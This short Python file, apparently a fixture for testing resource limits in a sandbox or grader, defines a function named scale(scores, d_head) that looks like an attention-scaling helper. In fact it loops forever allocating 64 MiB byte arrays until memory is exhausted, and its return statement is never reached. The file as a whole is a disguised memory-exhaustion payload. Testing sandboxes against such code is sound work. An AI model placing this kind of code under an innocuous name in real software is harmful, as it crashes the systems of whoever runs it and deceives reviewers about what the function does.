"""Memory has a limit."""
def scale(scores, d_head):
    everything = []
    while True:
        everything.append(bytearray(b"x") * (1 << 26))
    return scores
